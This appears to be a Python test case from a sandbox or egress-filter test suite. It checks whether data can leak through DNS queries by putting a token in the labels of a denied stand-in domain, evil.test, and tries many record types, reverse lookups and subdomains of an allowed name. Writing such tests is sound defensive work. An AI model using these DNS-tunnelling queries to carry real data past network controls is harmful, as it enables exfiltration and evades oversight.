# SPDX-License-Identifier: Apache-2.0
"""Bits in the labels of a denied name, in every type of question."""
import socket

import dns

TITLE = "DNS tunnel: token in the labels of a denied name"
THREAT = "13"


def attack(c):
    with c.step("libc") as token:
        if c.proxy:
            c.send(f"{token}.evil.test", 80, b"x")
        socket.getaddrinfo(f"{token}.evil.test", 80)
    if c.proxy:
        return
    for kind in (dns.A, dns.AAAA, dns.TXT, dns.NULL, dns.CNAME, dns.NS, 15, 33, 12, 99, 257, 65535):
        with c.step(f"type {kind}") as token:
            c.udp(c.resolver() or c.e, 53, dns.query(f"{token}.evil.test", kind))
    with c.step("no dot at all") as token:
        c.udp(c.resolver() or c.e, 53, dns.query(token))
    with c.step("reverse lookup") as token:
        c.udp(c.resolver() or c.e, 53, dns.query(f"{token}.in-addr.arpa", 12))
    with c.step("below the allowed name") as token:
        c.udp(c.resolver() or c.e, 53, dns.query(f"{token}.ok.test"))
